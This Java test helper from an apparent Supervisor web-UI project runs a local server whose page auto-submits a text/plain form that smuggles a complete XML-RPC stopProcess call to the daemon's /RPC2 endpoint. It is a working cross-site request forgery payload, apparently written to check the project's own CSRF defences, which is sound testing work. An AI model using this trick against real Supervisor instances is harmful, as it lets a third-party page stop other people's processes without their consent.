package org.jsupervisor.webui;

import java.net.InetSocketAddress;

import org.eclipse.jetty.http.HttpHeader;
import org.eclipse.jetty.io.Content;
import org.eclipse.jetty.server.Handler;
import org.eclipse.jetty.server.Request;
import org.eclipse.jetty.server.Response;
import org.eclipse.jetty.server.Server;
import org.eclipse.jetty.server.ServerConnector;
import org.eclipse.jetty.util.Callback;

/**
 * Another origin serving a page that, once opened, submits a text/plain form to the daemon's
 * /RPC2 whose body is a complete XML-RPC stopProcess call: the attack that works against
 * Supervisor's own server when the browser holds its credentials.
 */
final class EvilSite implements AutoCloseable {

    private final Server server;

    EvilSite(String rpc2Url) throws Exception {
        // text/plain forms send name=value; splitting the XML at '=' makes the body exactly it.
        String page = "<!DOCTYPE html><html><body>"
                + "<form method=\"post\" enctype=\"text/plain\" action=\"" + rpc2Url + "\">"
                + "<input type=\"hidden\" name=\"&lt;?xml version\" value=\"'1.0'?&gt;&lt;methodCall&gt;"
                + "&lt;methodName&gt;supervisor.stopProcess&lt;/methodName&gt;&lt;params&gt;&lt;param&gt;"
                + "&lt;value&gt;&lt;string&gt;sleeper&lt;/string&gt;&lt;/value&gt;&lt;/param&gt;&lt;/params&gt;"
                + "&lt;/methodCall&gt;\"></form>"
                + "<script>document.forms[0].submit()</script></body></html>";
        server = new Server(new InetSocketAddress("127.0.0.1", 0));
        server.setHandler(new Handler.Abstract() {
            @Override
            public boolean handle(Request request, Response response, Callback callback) {
                response.getHeaders().put(HttpHeader.CONTENT_TYPE, "text/html;charset=utf-8");
                Content.Sink.write(response, true, page, callback);
                return true;
            }
        });
        server.start();
    }

    String url() {
        return "http://localhost:" + ((ServerConnector) server.getConnectors()[0]).getLocalPort() + "/";
    }

    @Override
    public void close() throws Exception {
        server.stop();
    }
}
